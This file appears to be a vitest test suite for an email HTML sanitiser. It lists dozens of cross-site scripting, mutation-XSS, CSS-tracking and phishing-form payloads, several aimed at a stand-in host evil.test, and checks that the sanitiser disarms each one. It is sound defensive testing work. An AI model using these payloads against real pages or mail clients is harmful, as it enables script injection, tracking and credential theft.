import { describe, expect, it } from 'vitest';
import { spentMs } from '../../../platform/spent-ms.ts';
import { sanitiseMailHtml } from './sanitise-html.ts';

// Each must come out without anything that runs, loads, submits, covers or leaves the frame.
const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)<</script>/script>',
  '<script <b>>alert(1)</script>',
  '<script\0>alert(1)</script>',
  '<scr\0ipt>alert(1)</scr\0ipt>',
  '<script>alert(1)//',
  '<img src=x onerror=alert(1)>',
  '<img src="x"onerror="alert(1)">',
  '<img/src="x"/onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src="cid:a@b" alt="x" onload=alert(1)',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="https://x.test" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a xlink:href="javascript:alert(1)" formaction="javascript:alert(1)" ping="https://evil.test">x</a>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><!--<img src="--><img src=x onerror=alert(1)>"></svg>',
  '<svg><style><img src="</style><img src=x onerror=alert(1)>"></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<iframe src="https://evil.test" srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"><embed src="https://evil.test"></object>',
  '<form action="https://evil.test"><input name=password><button>go</button></form>',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<style>@import url(https://evil.test/x.css); body{display:none}</style>',
  '<style><style></style>body{background:url(https://evil.test)}</style>',
  '<div style="position:fixed;top:0;left:0;width:100%;z-index:9999">x</div>',
  '<div style="background:url(https://evil.test/p)">x</div>',
  '<div style="background-color:u\\72l(https://evil.test/p)">x</div>',
  '<div style="color:red;/**/background:url(https://evil.test)">x</div>',
  '<div style="width:expression(alert(1));-moz-binding:url(x)">x</div>',
  '<div style="font-family:&quot;;position:fixed;x:&quot;">x</div>',
  '<div style="list-style-image:image-set(\'https://evil.test/p\' 1x)">x</div>',
  '<table background="https://evil.test/p"><td background="https://evil.test/p">x</table>',
  '<img srcset="https://evil.test/p 1x" src="https://evil.test/p" lowsrc="https://evil.test/p">',
  '<picture><source srcset="https://evil.test/p"><img src="https://evil.test/p"></picture>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img data-remote-src="javascript:alert(1)" src="https://evil.test/p">',
  '<video src="https://evil.test/p" poster="https://evil.test/p" onloadstart=alert(1)></video>',
  '<audio src="https://evil.test/p" autoplay></audio>',
  '<template><img src=x onerror=alert(1)></template>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<body onload=alert(1) background="https://evil.test/p">x</body>',
  '<p id="x" name="y" class="z" contenteditable autofocus tabindex=1 onfocus=alert(1)>x</p>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  'https://x.test/"onmouseover="alert(1)',
  '<a href="https://x.test/&quot; onmouseover=&quot;alert(1)">x</a>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<input autofocus onfocus=alert(1)><select><option onclick=alert(1)>x</option></select>',
];

const allowedTag = /^(a|b|br|div|hr|img|li|ol|p|span|table|tbody|td|tr|ul|blockquote|em|strong)$/;
const allowedAttribute =
  /^(href|rel|target|src|data-remote-src|alt|style|dir|lang|title|width|height|align)$/;

const allowedValues: Readonly<Record<string, RegExp>> = {
  href: /^(https?:\/\/|mailto:|tel:)/,
  'data-remote-src': /^https?:\/\//,
  src: /^data:image\/(png|gif|jpeg|webp);base64,/,
  style: /^(?!.*(url|position|expression|@|\\|image))/i,
};

it.each([
  '<script>',
  '<a href="javascript:x">',
  '<b onclick="x">',
  '<p style="position:fixed">',
  'a <',
])('the check itself refuses %s', (html) => {
  expect(() => expectHarmless(html)).toThrow(/expected/);
});

describe('sanitiseMailHtml', () => {
  it.each(attacks)('disarms %s', (attack) => {
    for (const html of [attack, `<p>before${attack}<p>after`, attack.repeat(3)])
      expectHarmless(sanitiseMailHtml(html).html);
  });

  it.each(attacks)('stays the same when cleaned again: %s', (attack) => {
    const once = sanitiseMailHtml(attack).html;
    const again = sanitiseMailHtml(once.replaceAll('data-remote-src', 'src')).html;
    expect(again).toBe(once);
  });

  it('keeps text, tables, simple styles and links', () => {
    const html =
      '<table width="100%"><tbody><tr><td align="left" style="color:#333;padding:4px 8px">a <b>b</b></td></tr></tbody></table>';
    expect(sanitiseMailHtml(html).html).toBe(html);
    expect(
      sanitiseMailHtml(
        '<a href="https://x.test/?a=1&b=2">x</a> <a href="mailto:a@x.test">m</a> <a href="tel:+49">t</a>',
      ).html,
    ).toBe(
      '<a href="https://x.test/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">x</a> ' +
        '<a href="mailto:a@x.test" rel="noopener noreferrer nofollow" target="_blank">m</a> ' +
        '<a href="tel:+49" rel="noopener noreferrer nofollow" target="_blank">t</a>',
    );
  });

  it('holds back and counts remote pictures, and shows those inside the mail', () => {
    const html =
      '<img src="https://x.test/a.png"><img src="HTTP://x.test/b.png" style="display:none"><img src="cid:p%40x" alt="p"><img src="cid:other">';
    expect(sanitiseMailHtml(html, { cidUrls: { 'p@x': '/attachments/7' } })).toEqual({
      html: '<img data-remote-src="https://x.test/a.png" /><img alt="p" src="/attachments/7" /><img />',
      remoteImages: 1,
    });
    expect(
      sanitiseMailHtml('<img src="cid:x">', { cidUrls: { x: 'javascript:alert(1)' } }).html,
    ).toBe('<img />');
    expect(sanitiseMailHtml('<img src="cid:toString">').html).toBe('<img />');
  });

  it('drops what the sender hid', () => {
    expect(
      sanitiseMailHtml('<div style="display: none">preview<p>more</p></div><p hidden>x</p>seen')
        .html,
    ).toBe('seen');
  });

  it.each([
    '<div>',
    '<b>',
    '<blockquote>',
    '<table><tr><td>',
    '<a href="https://x.test">',
    '<svg>',
    '<font>',
    '<',
  ])('is quick with %s nested without end', (piece) => {
    const spent = spentMs(() =>
      expectHarmless(
        sanitiseMailHtml(piece.repeat(Math.ceil(300_000 / piece.length))).html.slice(0, 5000),
      ),
    );
    expect(spent).toBeLessThan(3000);
  });
});

function expectHarmless(html: string): void {
  for (const [, name = '', attributes = ''] of html.matchAll(/<([^\s/>]+)((?:"[^"]*"|[^">])*)>/g)) {
    expect(name).toMatch(allowedTag);
    for (const [, attribute = '', value = ''] of attributes.matchAll(
      /([^\s=/"]+)(?:="([^"]*)")?/g,
    )) {
      expect(attribute).toMatch(allowedAttribute);
      expect(value).toMatch(allowedValues[attribute] ?? /^[^<>]*$/);
    }
  }
  expect(html.replace(/<[a-z/](?:"[^"]*"|[^">])*>/g, '')).not.toContain('<');
}
